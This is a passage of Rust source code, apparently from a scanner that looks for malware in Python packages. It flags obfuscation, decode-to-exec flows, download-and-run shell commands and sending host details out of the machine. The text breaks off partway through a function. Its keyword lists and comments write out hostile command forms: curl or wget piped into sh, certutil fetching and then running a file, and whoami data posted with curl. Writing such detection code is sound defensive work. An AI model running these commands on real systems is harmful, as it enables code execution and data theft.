//! Python-aware heuristics over a real syntax tree (tree-sitter, which also parses Python 2 and
//! broken code into a partial tree, as malware often is).
//!
//! The analysis resolves imports and aliases (`import base64 as b`, `from os import system as
//! s`, `__import__('base64')`), classifies every call into capabilities, follows values from
//! decoders and network reads into `exec`/`eval`/`compile` (also through variables and lambda
//! decoders), and turns combinations into findings weighted by where the file runs.

use std::collections::{HashMap, HashSet};
use std::net::Ipv4Addr;
use std::rc::Rc;

use tree_sitter::{Node, Parser, Tree};

use crate::Context;
use crate::report::{Finding, Severity};

mod gate;

pub use gate::{SinkKind, any_word, has_sink, sink_kinds, worth_parsing};

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Cap {
    Process,
    Network,
    DynamicExec,
    Decode,
    HostInfo,
    EnvAccess,
    FileWrite,
    /// Only as taint: a value holding the whole environment or a wallet secret.
    Secret,
}

/// What one file does, and the findings drawn from it.
pub struct Facts {
    caps: HashMap<Cap, (u32, String)>,
    pub findings: Vec<Finding>,
    /// What the package-level analysis needs: calls, imports and function summaries.
    pub module: Option<ModuleFacts>,
    /// Not parsed, since nothing in it can act, but it imports: [`parse_module`] may be needed.
    pub parse_later: bool,
}

/// One call that has capabilities, as the package-level analysis sees it.
#[derive(Clone, Debug)]
pub struct CallFact {
    pub line: u32,
    pub top_level: bool,
    pub caps: Vec<Cap>,
    pub indirect: bool,
    pub excerpt: String,
    /// A process call that starts its program out of sight ([`HIDDEN_LAUNCH`]).
    pub hidden: bool,
}

/// An import statement: `module` as written (leading dots for relative imports), the names it
/// imports (`*` for all), and whether it runs when the file runs (not inside a function).
#[derive(Clone, Debug)]
pub struct Import {
    pub module: String,
    pub names: Vec<String>,
    pub top: bool,
}

/// A file's behaviour for the package-level analysis: which of its calls run at its top level,
/// what its functions do, what it imports, and which imported names its top level calls.
#[derive(Clone, Debug, Default)]
pub struct ModuleFacts {
    pub calls: Vec<CallFact>,
    pub fn_caps: HashMap<String, Vec<Cap>>,
    pub imports: Vec<Import>,
    /// Resolved names of calls (and thread or timer targets) that are not the file's own
    /// functions: (name, line, at top level).
    pub called: Vec<(String, u32, bool)>,
}

impl Facts {
    pub fn has_network(&self) -> bool {
        self.caps.contains_key(&Cap::Network)
    }

    pub fn runs_programs(&self) -> bool {
        self.caps.contains_key(&Cap::Process)
    }
}

/// Files larger than this are only scanned with rules, not parsed...
const MAX_PARSE_BYTES: usize = 2 << 20;
/// ...unless they have few lines: a packed payload padded to slip under a size limit is one
/// huge literal, cheap to parse.
const MAX_PACKED_PARSE_BYTES: usize = 32 << 20;
const MAX_PACKED_LINES: usize = 2_000;
/// `parse_allowed` is false when the caller's budget for parsing test and documentation files is
/// spent: those get the text checks only.
pub fn analyze(path: &str, data: &[u8], ctx: Context, is_pth: bool, parse_allowed: bool) -> Facts {
    let mut facts = Facts { caps: HashMap::new(), findings: Vec::new(), module: None, parse_later: false };
    text_checks(path, data, ctx, &mut facts);
    if is_pth {
        pth_checks(path, data, &mut facts);
    }
    // Entry files (setup.py, `__init__.py`) are parsed whenever they import: their calls to
    // imported functions matter to the package-level analysis.
    let entry = matches!(ctx, Context::Install | Context::Import) && memchr::memmem::find(data, b"import").is_some();
    let parseable = data.len() <= MAX_PARSE_BYTES
        || (data.len() <= MAX_PACKED_PARSE_BYTES
            && memchr::memchr_iter(b'\n', data).take(MAX_PACKED_LINES + 1).count() <= MAX_PACKED_LINES);
    if parseable && parse_allowed && (entry || worth_parsing(data)) {
        parse_into(path, data, ctx, is_pth, &mut facts);
    } else if parse_allowed && memchr::memmem::find(data, b"import").is_some() {
        // Nothing here can act, but what it imports may: the package-level analysis follows
        // imports through such files, read from the lines without a parse. Should its top level
        // call a function of the package that acts, the caller parses it after all
        // ([`parse_module`]).
        facts.module = Some(ModuleFacts { imports: scan_imports(data), ..ModuleFacts::default() });
        facts.parse_later = parseable && !is_pth;
    }
    facts
}

/// The package-level facts of a file that [`analyze`] did not parse because nothing in it can
/// act, for when it turns out to call a function of another module that does.
pub fn parse_module(path: &str, data: &[u8], ctx: Context) -> Option<ModuleFacts> {
    let mut facts = Facts { caps: HashMap::new(), findings: Vec::new(), module: None, parse_later: false };
    parse_into(path, data, ctx, false, &mut facts);
    facts.module
}

fn parse_into(path: &str, data: &[u8], ctx: Context, is_pth: bool, facts: &mut Facts) {
    let source: Vec<u8> = if is_pth {
        // Only lines starting with `import` are executed by site.py.
        data.split(|b| *b == b'\n')
            .filter(|l| l.starts_with(b"import ") || l.starts_with(b"import\t"))
            .flat_map(|l| l.iter().copied().chain([b'\n']))
            .collect()
    } else {
        fold_math_letters(data).unwrap_or_else(|| data.to_vec())
    };
    let tree = parse(&source);
    let mut a = Analyzer::new(&source);
    if let Some(tree) = &tree {
        a.run(tree);
    }
    facts.caps = a.caps.clone();
    facts.module = Some(ModuleFacts {
        calls: firsts_of_kind(&a.calls)
            .into_iter()
            .map(|c| CallFact {
                line: c.line,
                top_level: c.top_level,
                caps: c.caps.clone(),
                indirect: c.indirect,
                excerpt: a.line_text(c.line),
                hidden: a.hidden_launches.contains(&c.line)
                    || (c.indirect && c.caps.contains(&Cap::Process) && !a.hidden_launches.is_empty()),
            })
            .collect(),
        fn_caps: a.fn_caps.clone(),
        imports: std::mem::take(&mut a.imports),
        called: std::mem::take(&mut a.called),
    });
    combine(path, ctx, a, facts);
}

/// The first call with each capability for each (top level, indirect) kind: all the
/// package-level analysis looks at, so that a file of a hundred thousand calls does not hand on
/// a hundred thousand facts.
fn firsts_of_kind(calls: &[Call]) -> Vec<&Call> {
    let mut seen: HashSet<(Cap, bool, bool)> = HashSet::new();
    calls
        .iter()
        .filter(|c| {
            let mut new = false;
            for cap in &c.caps {
                new |= seen.insert((*cap, c.top_level, c.indirect));
            }
            new
        })
        .collect()
}

/// A file's imports, read from its lines (no parse).
pub(crate) fn imports_of(data: &[u8]) -> Vec<Import> {
    scan_imports(data)
}

/// The import statements of a file that has no capabilities, from its lines: `import a.b`,
/// `from .m import x, y`; at the top level when not indented.
fn scan_imports(data: &[u8]) -> Vec<Import> {
    let mut out = Vec::new();
    let mut lines = data.split(|b| *b == b'\n').take(20_000);
    while let Some(line) = lines.next() {
        let Ok(line) = std::str::from_utf8(line) else { continue };
        // `from x import (` continued over the following lines, as formatters write it.
        let mut joined;
        let mut line = line;
        if line.contains(" import (") && !line.contains(')') {
            joined = line.to_string();
            for next in lines.by_ref().take(200) {
                let next = String::from_utf8_lossy(next);
                joined.push(' ');
                joined.push_str(next.trim());
                if next.contains(')') {
                    break;
                }
            }
            line = &joined;
        }
        // `__import__("a.b")` and `importlib.import_module("a.b")` with a literal name.
        for call in ["__import__(", "import_module("] {
            for (i, _) in line.match_indices(call) {
                let arg = line[i + call.len()..].trim_start();
                if let Some(q) = arg.chars().next().filter(|q| *q == '"' || *q == '\'')
                    && let Some(end) = arg[1..].find(q)
                {
                    out.push(Import { module: arg[1..1 + end].to_string(), names: Vec::new(), top: !line.starts_with([' ', '\t']) });
                }
            }
        }
        let trimmed = line.trim_start();
        let top = trimmed.len() == line.len();
        let names = |list: &str| -> Vec<String> {
            list.trim_matches(|c: char| c == '(' || c == ')' || c.is_whitespace() || c == '\\')
                .split(',')
                .filter_map(|n| n.split_whitespace().next())
                .map(|n| n.trim_matches(|c: char| c == '(' || c == ')').to_string())
                .filter(|n| !n.is_empty())
                .collect()
        };
        if let Some(rest) = trimmed.strip_prefix("from ") {
            if let Some((module, list)) = rest.split_once(" import ").or_else(|| rest.split_once("\timport ")) {
                out.push(Import { module: module.trim().to_string(), names: names(list), top });
            }
        } else if let Some(rest) = trimmed.strip_prefix("import ") {
            for module in names(rest) {
                out.push(Import { module, names: Vec::new(), top });
            }
        }
        if out.len() >= 256 {
            break;
        }
    }
    out
}

/// Lines that hide code: far off-screen after whitespace, or enormous single lines.
fn text_checks(path: &str, data: &[u8], ctx: Context, facts: &mut Facts) {
    let mut long_reported = false;
    let mut math_reported = false;
    for (i, line) in data.split(|b| *b == b'\n').enumerate() {
        if !math_reported && math_identifier(line) {
            math_reported = true;
            facts.findings.push(Finding::new(
                "py-unicode-identifiers",
                Severity::High,
                ctx,
                path,
                Some(i as u32 + 1),
                &String::from_utf8_lossy(&line[..line.len().min(400)]),
                "names spelled in mathematical letters (𝘦𝘹𝘦𝘤 for exec), which Python reads as plain ones: a way to hide \
                 what code calls from readers and text searches",
            ));
        }
        if line.len() > 150
            && let Some(run_start) = find_space_run(line, 120)
        {
            let rest = &line[run_start..];
            let code = rest.iter().position(|b| !b.is_ascii_whitespace()).map(|p| &rest[p..]).unwrap_or(&[]);
            let acts = [
                &b"import"[..],
                b"exec",
                b"eval",
                b"system",
                b"subprocess",
                b"popen",
                b"__import__",
                b"b64decode",
                b"urlopen",
                b"requests.",
            ]
            .iter()
            .any(|k| memchr::memmem::find(code, k).is_some());
            if acts && !code.starts_with(b"#") {
                facts.findings.push(Finding::new(
                    "py-hidden-code",
                    Severity::High,
                    ctx,
                    path,
                    Some(i as u32 + 1),
                    &String::from_utf8_lossy(code),
                    "code placed far to the right after a run of whitespace, out of sight in an editor",
                ));
            }
        }
        if line.len() > 5_000 && !long_reported {
            long_reported = true;
            facts.findings.push(Finding::new(
                "py-long-line",
                Severity::Low,
                ctx,
                path,
                Some(i as u32 + 1),
                &String::from_utf8_lossy(&line[..120]),
                &format!("a {}-character line: packed or obfuscated code", line.len()),
            ));
        }
    }
}

/// Whether a line of code (not a comment) calls or names something through an identifier
/// written with at least two Mathematical Alphanumeric Symbols (U+1D400 to U+1D7FF, UTF-8
/// `F0 9D 90..9F ..`): Python folds them to ASCII letters (NFKC), so `𝘦𝘹𝘦𝘤(...)` is `exec(...)`.
/// Prose quoting a formula (`𝑥`) is not followed by a call or an attribute.
fn math_identifier(line: &[u8]) -> bool {
    if memchr::memmem::find(line, b"\xf0\x9d").is_none() || line.trim_ascii_start().starts_with(b"#") {
        return false;
    }
    let is_math = |i: usize| {
        line.get(i) == Some(&0xf0) && line.get(i + 1) == Some(&0x9d) && line.get(i + 2).is_some_and(|b| (0x90..=0x9f).contains(b))
    };
    let mut i = 0;
    while i < line.len() {
        // One identifier-like word: ASCII letters, digits, `_` and mathematical letters.
        let start = i;
        let mut math = 0;
        while i < line.len() {
            if is_math(i) {
                math += 1;
                i += 4;
            } else if line[i].is_ascii_alphanumeric() || line[i] == b'_' {
                i += 1;
            } else {
                break;
            }
        }
        if i == start {
            i += 1;
            continue;
        }
        let next = line[i..].iter().find(|b| !matches!(b, b' ' | b'\t'));
        if math >= 2 && matches!(next, Some(b'(' | b'.' | b'=' | b',' | b')')) {
            return true;
        }
    }
    false
}

fn find_space_run(line: &[u8], min: usize) -> Option<usize> {
    let mut run = 0;
    for (i, b) in line.iter().enumerate() {
        if *b == b' ' || *b == b'\t' {
            run += 1;
            if run >= min {
                return Some(i + 1 - run);
            }
        } else {
            run = 0;
        }
    }
    None
}

fn pth_checks(path: &str, data: &[u8], facts: &mut Facts) {
    for (i, line) in data.split(|b| *b == b'\n').enumerate() {
        if line.starts_with(b"import ") || line.starts_with(b"import\t") {
            facts.findings.push(Finding::new(
                "pth-executable-line",
                Severity::Low,
                Context::Install,
                path,
                Some(i as u32 + 1),
                &String::from_utf8_lossy(line),
                "a .pth file with an import line: it runs at every start of the Python interpreter",
            ));
            return;
        }
    }
}

struct Call {
    line: u32,
    top_level: bool,
    caps: Vec<Cap>,
    /// Some capabilities come from a function of the file that this call reaches.
    indirect: bool,
}

struct Analyzer<'s, 't> {
    src: &'s [u8],
    /// `src` as text, when it is valid UTF-8 (almost always).
    src_str: Option<&'s str>,
    /// The syntax tree's nodes in document order, walked many times over.
    flat: Rc<Flat<'t>>,
    aliases: HashMap<String, String>,
    /// Variables holding decoded or downloaded data, and lambdas/functions that decode.
    tainted: HashMap<String, Vec<Cap>>,
    decoder_fns: HashSet<String>,
    /// What the package's own functions do (by bare name, methods included), transitively: a
    /// call to `run(cmd)` that wraps `subprocess.Popen` is a process call.
    fn_caps: HashMap<String, Vec<Cap>>,
    /// Variables assigned a string literal, for reading command lines kept in a variable.
    consts: HashMap<String, String>,
    /// String literals that hold Python code (a second stage written to a file or passed to
    /// `python -c`), analysed as code in turn.
    code_strings: Vec<(String, u32, bool)>,
    depth: u8,
    imports: Vec<Import>,
    called: Vec<(String, u32, bool)>,
    /// Byte offsets where lines start, built on first use.
    line_starts: std::cell::OnceCell<Vec<usize>>,
    calls: Vec<Call>,
    caps: HashMap<Cap, (u32, String)>,
    chains: Vec<(Cap, u32, String, bool)>,
    has_env_attr: Option<u32>,
    /// exec/eval of something that is neither a literal nor a file read.
    dynamic_exec: Option<u32>,
    /// A network call whose arguments come out of a decoder: a hidden endpoint.
    hidden_endpoint: Option<u32>,
    /// A network call whose arguments carry host or user details.
    hostinfo_flow: Option<u32>,
    /// A program run with a command that is decoded at run time.
    hidden_command: Option<u32>,
    /// `pip install` run from code.
    pip_install: Option<u32>,
    /// Paths of files written (`open(p, "wb")`, `urlretrieve(u, p)`), as written in the code.
    written: Vec<String>,
    /// Argument text of process calls, with their lines.
    run_args: Vec<(String, u32)>,
    /// Decoded data written to a file.
    decoded_write: Option<u32>,
    /// A program run with a command that came from the network.
    remote_command: Option<u32>,
    /// A wallet secret or the whole environment sent over the network.
    secret_exfil: Option<u32>,
    /// Data sent to a URL with a hard-coded public IP address.
    raw_ip_send: Option<u32>,
    /// A request to an out-of-band interaction service or a tunnel.
    oob_request: Option<u32>,
    /// One shell command that both fetches and reads out who and where it runs
    /// (`curl -d "$(whoami)" https://...`): host details sent, by construction.
    shell_exfil: Option<u32>,
    /// One shell command that fetches and runs what it fetched (`curl ... | sh`,
    /// `wget -O f ... && chmod +x f && ./f`).
    shell_drop_run: Option<u32>,
    /// Names bound to network clients by `with ... as name`.
    net_clients: HashSet<String>,
    /// Variables holding text that only decoding reveals: character arithmetic
    /// (`"".join(chr(ord(c) - 3) for c in s)`) or a URL kept base64-encoded. Used as a request's
    /// address or data, they hide the endpoint.
    hidden_values: HashSet<String>,
    /// Variables assigned a list of string literals, for `"".join(parts)`.
    literal_lists: HashMap<String, Vec<String>>,
    /// A request to one host that names another in its `Host` header: domain fronting.
    fronting: Option<u32>,
    /// A socket connected to a host written into the code (`create_connection((HOST, 443))`).
    socket_to_const: Option<u32>,
    /// A shell (`cmd.exe`, `/bin/sh`, `powershell`) started with its input piped in.
    piped_shell: Option<u32>,
    /// Lines of process calls that start their program out of sight ([`HIDDEN_LAUNCH`]).
    hidden_launches: HashSet<u32>,
    /// Downloaded data written to a file (`f.write(response.text)`).
    network_write: Option<u32>,
    /// A module imported by a name decoded at run time (`__import__("".join(chr(c ^ k) ...))`).
    hidden_import: Option<u32>,
    /// Identifiers written with look-alike characters (`O0O0l11lO1`), as obfuscators name
    /// things; at most a few are kept.
    confusable_names: Vec<(String, u32)>,
}

/// What a shell command line does besides running: fetching (Network) or reading out who and
/// where it runs (HostInfo), as `curl -d "$(whoami)@$(hostname)" https://...` does.
fn shell_caps(args: &str) -> Vec<Cap> {
    let lower = args.to_ascii_lowercase();
    let mut caps = Vec::new();
    if DOWNLOAD_TOOLS.iter().any(|t| lower.contains(t))
        || ["nslookup", "\"dig\"", "'dig'", "dig +", "dig @"].iter().any(|t| lower.contains(t))
    {
        caps.push(Cap::Network);
    }
    if ["whoami", "hostname", "uname -a", "$(id)", "`id`", "ifconfig", "ipconfig"].iter().any(|t| lower.contains(t)) {
        caps.push(Cap::HostInfo);
    }
    caps
}

/// Whether a command line that downloads also runs something it did not name as a program
/// of its own: piped into a shell, made executable, or started by path.
fn runs_what_it_fetched(lower: &str) -> bool {
    let compact: String = lower.split_whitespace().collect::<Vec<_>>().join(" ");
    [
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "| python",
        "chmod +x",
        "chmod 7",
        "chmod 0755",
        "&& ./",
        "; ./",
        "&& /tmp/",
        "; /tmp/",
        "start-process",
        "invoke-expression",
        "| iex",
        "cmd /c start",
        "&& start ",
    ]
    .iter()
    .any(|k| compact.contains(k))
        || runs_a_file_it_named(&compact)
}

/// `certutil -urlcache -f http://x/a C:\\Users\\Public\\run.bat && C:\\Users\\Public\\run.bat`:
/// a later step of the command line starts a program file that an earlier step named (the
/// download's destination).
fn runs_a_file_it_named(compact: &str) -> bool {
    let steps: Vec<&str> = compact.split("&&").flat_map(|s| s.split(';')).collect();
    steps.iter().enumerate().skip(1).take(16).any(|(i, step)| {
        let program = step.split_whitespace().next().unwrap_or("").trim_matches(['"', '\'']);
        is_file_name(program) && (program.contains('/') || program.contains('\\')) && steps[..i].iter().any(|s| s.contains(program))
    })
}

/// Words in a command line that mean it downloads something.
const DOWNLOAD_TOOLS: &[&str] = &[
    "http://",
    "https://",
    "curl ",
    "\"curl\"",
    "'curl'",
    "wget ",
    "\"wget\"",
    "'wget'",
    "invoke-webrequest",
    "iwr ",
    "downloadstring",
    "downloadfile",
    "start-bitstransfer",
    "bitsadmin",
    "certutil",
    "invoke-restmethod",
];

impl<'s, 't> Analyzer<'s, 't> {
    fn new(src: &'s [u8]) -> Self {
        Self {
            src,
            src_str: std::str::from_utf8(src).ok(),
            flat: Rc::new(Flat::default()),
            aliases: HashMap::new(),
            tainted: HashMap::new(),
            decoder_fns: HashSet::new(),
            fn_caps: HashMap::new(),
            consts: HashMap::new(),
            code_strings: Vec::new(),
            depth: 0,
            imports: Vec::new(),
            called: Vec::new(),
            line_starts: std::cell::OnceCell::new(),
            calls: Vec::new(),
            caps: HashMap::new(),
            chains: Vec::new(),
            has_env_attr: None,
            dynamic_exec: None,
            hidden_endpoint: None,
            hostinfo_flow: None,
            hidden_command: None,
            pip_install: None,
            written: Vec::new(),
            run_args: Vec::new(),
            decoded_write: None,
            remote_command: None,
            secret_exfil: None,
            raw_ip_send: None,
            shell_exfil: None,
            shell_drop_run: None,
            oob_request: None,
            net_clients: HashSet::new(),
            hidden_values: HashSet::new(),
            literal_lists: HashMap::new(),
            fronting: None,
            socket_to_const: None,
            piped_shell: None,
            hidden_launches: HashSet::new(),
            network_write: None,
            hidden_import: None,
            confusable_names: Vec::new(),
        }
    }

    fn text(&self, n: Node) -> &'s str {
        match self.src_str {
            // Slicing checks only the two ends; the whole was validated once.
            Some(s) => s.get(n.byte_range()).unwrap_or(""),
            None => std::str::from_utf8(&self.src[n.byte_range()]).unwrap_or(""),
        }
    }

    fn line_text(&self, line: u32) -> String {
        let starts =
            self.line_starts.get_or_init(|| std::iter::once(0).chain(memchr::memchr_iter(b'\n', self.src).map(|i| i + 1)).collect());
        let i = line.saturating_sub(1) as usize;
        let Some(&start) = starts.get(i) else { return String::new() };
        let end = starts.get(i + 1).map(|e| e - 1).unwrap_or(self.src.len()).max(start);
        // Excerpts are short: a packed line of megabytes is cut, not copied per call.
        String::from_utf8_lossy(&self.src[start..end.min(start + 400)]).into_owned()
    }

    fn run(&mut self, tree: &'t Tree) {
        let root = tree.root_node();
        self.flat = Rc::new(Flat::new(root));
        // Pass 1: imports and assignments, in document order, so that taint follows assignments
        // forward through any number of variables; again when the file defines decoding
        // functions, for uses written above them (a function body calling a decoder defined
        // below it).
        self.visit(root, Pass::Bindings);
        if !self.decoder_fns.is_empty() {
            self.visit(root, Pass::Bindings);
        }
        self.summarize(root);
        // Pass 2: calls.
        self.visit(root, Pass::Calls);
        self.nested_code();
    }

    /// Analyses the code held in string literals as if it ran where the literal sits: malware
    /// writes its second stage to a file, or hands it to `python -c`, as a string.
    fn nested_code(&mut self) {
        if self.depth >= 2 {
            return;
        }
        for (code, line, top) in std::mem::take(&mut self.code_strings).into_iter().take(16) {
            let Some(tree) = parse(code.as_bytes()) else { continue };
            // Long text that does not parse is prose quoting code (a README's examples), not a
            // second stage: that would have to run.
            if tree.root_node().has_error() && code.lines().count() > 20 {
                continue;
            }
            let mut inner = Analyzer::new(code.as_bytes());
            inner.depth = self.depth + 1;
            inner.run(&tree);
            for c in inner.calls {
                self.calls.push(Call { line, top_level: top && c.top_level, caps: c.caps, indirect: c.indirect });
            }
            for (cap, (_, what)) in inner.caps {
                self.caps.entry(cap).or_insert((line, what));
            }
            self.written.extend(inner.written);
            self.run_args.extend(inner.run_args.into_iter().map(|(a, _)| (a, line)));
            for (cap, _, _, t) in inner.chains {
                self.chains.push((cap, line, self.line_text(line), top && t));
            }
            for (mine, theirs) in [
                (&mut self.dynamic_exec, inner.dynamic_exec),
                (&mut self.hidden_endpoint, inner.hidden_endpoint),
                (&mut self.hostinfo_flow, inner.hostinfo_flow),
                (&mut self.hidden_command, inner.hidden_command),
                (&mut self.pip_install, inner.pip_install),
                (&mut self.decoded_write, inner.decoded_write),
                (&mut self.remote_command, inner.remote_command),
                (&mut self.secret_exfil, inner.secret_exfil),
                (&mut self.raw_ip_send, inner.raw_ip_send),
                (&mut self.oob_request, inner.oob_request),
                (&mut self.shell_exfil, inner.shell_exfil),
                (&mut self.shell_drop_run, inner.shell_drop_run),
            ] {
                if theirs.is_some() && mine.is_none() {
                    *mine = Some(line);
                }
            }
        }
    }

    fn visit(&mut self, root: Node, pass: Pass) {
        let flat = Rc::clone(&self.flat);
        flat.walk_with(root, true, |node, kind, top| {
            // `if __name__ == "__main__":` does not run when the module is imported.
            let main_guard = kind == "if_statement" && node.field("condition").is_some_and(|c| self.text(c).contains("__main__"));
            // Class bodies run when the module does; function bodies when called.
            let child_top = top && !main_guard && !matches!(kind, "function_definition" | "lambda");
            match (pass, kind) {
                (Pass::Bindings, "import_statement") => self.import(node),
                (Pass::Bindings, "import_from_statement") => self.import_from(node),
                (Pass::Bindings, "assignment" | "augmented_assignment") => self.assignment(node),
                (Pass::Bindings, "decorated_definition") => self.handler_params(node),
                // `with httpx.Client() as client:`: the name holds a network client.
                (Pass::Bindings, "as_pattern") => {
                    if let (Some(value), Some(alias)) = (node.named_child(0), node.field("alias"))
                        && alias.kind_str() == "as_pattern_target"
                        && self.subtree_has(value, Cap::Network)
                    {
                        // Not a taint: what is read through the client is another matter.
                        self.net_clients.insert(self.text(alias).to_string());
                        // `with urlopen(url) as response:` names a response, though: what is read
                        // from it came over the network.
                        if value.kind_str() == "call"
                            && value.field("function").and_then(|f| self.dotted(f)).is_some_and(|f| is_http_request(&f, false))
                        {
                            self.taint(self.text(alias).to_string(), Cap::Network);
                        }
                    }
                }
                (Pass::Bindings, "function_definition") => {
                    if let (Some(name), Some(body)) = (node.field("name"), node.field("body"))
                        && self.text(body).contains("return")
                        && self.subtree_has(body, Cap::Decode)
                    {
                        self.decoder_fns.insert(self.text(name).to_string());
                    }
                }
                (Pass::Calls, "string") if self.depth < 2 => self.code_string(node, top),
                (Pass::Calls, "call") => self.call(node, top),
                (Pass::Calls, "identifier") if self.confusable_names.len() < 8 && node.byte_range().len() >= 8 => {
                    let t = self.text(node);
                    if is_confusable(t) && !self.confusable_names.iter().any(|(n, _)| n == t) {
                        self.confusable_names.push((t.to_string(), node.start_position().row as u32 + 1));
                    }
                }
                (Pass::Calls, "import_statement" | "import_from_statement") if self.depth == 0 => self.record_import(node, top),
                (Pass::Calls, "attribute")
                    if self.has_env_attr.is_none()
                        && self.text(node).ends_with("environ")
                        && self.dotted(node).as_deref() == Some("os.environ") =>
                {
                    self.has_env_attr = Some(node.start_position().row as u32 + 1);
                }
                _ => {}
            }
            Flow::Descend(child_top)
        });
    }

    /// Summarises what each function of the file does, through the calls it makes to the file's
    /// other functions (to a fixed point), so that calling a wrapper counts as what it wraps.
    fn summarize(&mut self, root: Node) {
        // (name, direct capabilities, names of local functions it calls)
        let mut fns: Vec<(String, Vec<Cap>, Vec<String>)> = Vec::new();
        let flat = Rc::clone(&self.flat);
        flat.walk_with(root, None, |n, kind, current: Option<usize>| {
            let mut inside = current;
            match kind {
                "function_definition" => {
                    if let Some(name) = n.field("name") {
                        fns.push((self.text(name).to_string(), Vec::new(), Vec::new()));
                        inside = Some(fns.len() - 1);
                    }
                }
                "call" => {
                    if let (Some(i), Some(name)) = (current, n.field("function").and_then(|f| self.dotted(f))) {
                        let mut caps = classify(&name);
                        if caps.contains(&Cap::DynamicExec)
                            && let Some(args) = n.field("arguments")
                        {
                            let t = self.text(args);
                            if t.contains("open(") || is_plain_literal(t) || t.trim() == "()" {
                                caps.retain(|c| *c != Cap::DynamicExec);
                            }
                        }
                        if caps.contains(&Cap::Process)
                            && let Some(args) = n.field("arguments")
                        {
                            caps.extend(shell_caps(&self.expanded(args)));
                        }
                        let entry = &mut fns[i];
                        for c in caps {
                            if !entry.1.contains(&c) {
                                entry.1.push(c);
                            }
                        }
                        let callee = self.callback_target(&name, n).unwrap_or(name);
                        let bare = callee.strip_prefix("self.").or_else(|| callee.strip_prefix("cls.")).unwrap_or(&callee);
                        if !bare.contains('.') {
                            entry.2.push(bare.to_string());
                        }
                    }
                }
                _ => {}
            }
            Flow::Descend(inside)
        });
        let mut caps: HashMap<String, Vec<Cap>> = HashMap::new();
        for (name, c, _) in &fns {
            let e = caps.entry(name.clone()).or_default();
            for cap in c {
                if !e.contains(cap) {
                    e.push(*cap);
                }
            }
        }
        // Propagate along calls to a fixed point with a worklist: capabilities only grow (at
        // most eight per function), so this ends after a bounded number of steps however long
        // the chain of wrappers.
        let mut callers: HashMap<&str, Vec<&str>> = HashMap::new();
        for (name, _, callees) in &fns {
            for callee in callees {
                if callee != name {
                    callers.entry(callee.as_str()).or_default().push(name.as_str());
                }
            }
        }
        let mut work: Vec<&str> = fns.iter().filter(|(_, c, _)| !c.is_empty()).map(|(n, _, _)| n.as_str()).collect();
        while let Some(callee) = work.pop() {
            let Some(add) = caps.get(callee).cloned() else { continue };
            for &caller in callers.get(callee).map(Vec::as_slice).unwrap_or(&[]) {
                let e = caps.entry(caller.to_string()).or_default();
                let before = e.len();
                for cap in &add {
                    if !e.contains(cap) {
                        e.push(*cap);
                    }
                }
                if e.len() > before {
                    work.push(caller);
                }
            }
        }
        caps.retain(|_, c| !c.is_empty());
        self.fn_caps = caps;
    }

    /// The function a thread, timer, process pool or exit hook is started with:
    /// `Thread(target=f)`, `Timer(5, f)`, `atexit.register(f)`, `pool.submit(f)`.
    fn callback_target(&self, name: &str, call: Node) -> Option<String> {
        let last = name.rsplit('.').next().unwrap_or(name);
        let positional = match (name, last) {
            (_, "Thread" | "Process") if name.starts_with("threading.") || name.starts_with("multiprocessing.") => None,
            (_, "Timer") if name.starts_with("threading.") => Some(1),
            ("atexit.register", _) | (_, "submit" | "run_in_executor" | "start_new_thread" | "call_soon" | "call_later") => {
                Some(if last == "run_in_executor" || last == "call_later" { 1 } else { 0 })
            }
            _ => return None,
        };
        let args = call.field("arguments")?;
        let mut cursor = args.walk();
        let mut target = None;
        let mut index = 0;
        for a in args.named_children(&mut cursor) {
            if a.kind_str() == "keyword_argument" {
                if a.field("name").map(|n| self.text(n)) == Some("target") {
                    target = a.field("value");
                }
                continue;
            }
            if Some(index) == positional {
                target = Some(a);
            }
            index += 1;
        }
        self.dotted(target?)
    }

    /// The summary of a function of this file called as `name`, `self.name` or `cls.name`.
    fn local_fn(&self, name: &str) -> Option<&Vec<Cap>> {
        let bare = name.strip_prefix("self.").or_else(|| name.strip_prefix("cls.")).unwrap_or(name);
        if bare.contains('.') {
            return None;
        }
        self.fn_caps.get(bare)
    }

    /// Remembers a string literal that reads as Python code doing something worth a look.
    fn code_string(&mut self, node: Node, top: bool) {
        let raw = self.text(node);
        if raw.len() < 40 || self.code_strings.len() >= 16 {
            return;
        }
        let has = |k: &str| raw.contains(k);
        let importing = has("import ") || has("__import__");
        let acting = [
            "exec(",
            "eval(",
            "socket",
            "subprocess",
            "os.system",
            "urlopen",
            "urlretrieve",
            "requests.",
            "os.dup2",
            "pty.spawn",
            "b64decode",
            "Popen",
            "marshal",
        ]
        .iter()
        .any(|k| has(k));
        if !(importing && acting) {
            return;
        }
        // Docstrings are prose. (Asked last: finding a node's parent walks down from the root.)
        if node.parent().is_some_and(|p| p.kind_str() == "expression_statement" && p.named_child_count() == 1) {
            return;
        }
        // So are descriptions, help texts and READMEs, whose examples quote code.
        if self.prose_slot(node) {
            return;
        }
        let text = unescape(raw);
        let start = ["import ", "from ", "__import__", "exec(", "eval("].iter().filter_map(|k| text.find(k)).min().unwrap_or(0);
        let code = text[start..].trim_end().trim_end_matches(['"', '\'', ' ']).to_string();
        self.code_strings.push((code, node.start_position().row as u32 + 1, top));
    }

    /// Whether a string literal is the value of a description or a help text
    /// (`long_description=...`, `'long_description': ...`, `__doc__ = ...`): prose whose examples
    /// quote code that never runs.
    fn prose_slot(&self, node: Node) -> bool {
        const PROSE: &[&str] =
            &["long_description", "long_desc", "description", "summary", "readme", "help", "epilog", "usage", "__doc__", "doc"];
        let prose = |t: &str| PROSE.contains(&t.trim_matches(['"', '\'']).to_ascii_lowercase().as_str());
        let mut at = node;
        // Through the pieces of a concatenation and brackets.
        while let Some(p) = at.parent() {
            match p.kind_str() {
                "concatenated_string" | "parenthesized_expression" => at = p,
                "keyword_argument" => return p.field("name").is_some_and(|n| prose(self.text(n))),
                "pair" => return p.field("key").is_some_and(|k| prose(self.text(k))),
                "assignment" => return p.field("left").is_some_and(|l| prose(self.text(l))),
                _ => return false,
            }
        }
        false
    }

    fn remember_written(&mut self, path: Node) {
        if self.written.len() < 64 {
            // A literal path, or the expression that names it (often a one-letter variable).
            let t = self.text(path);
            let t = string_value(t).filter(|v| v.len() >= 2).unwrap_or_else(|| t.to_string());
            if !t.is_empty() {
                self.written.push(t);
            }
        }
        // A path built from parts, `os.path.join(tmp, "stage2.py")`: the file name is what a
        // later command line names.
        if path.kind_str() != "string" {
            let mut names = Vec::new();
            self.flat.walk(path, |n| {
                if n.kind_str() == "string"
                    && let Some(v) = string_value(self.text(n))
                    && is_file_name(&v)
                {
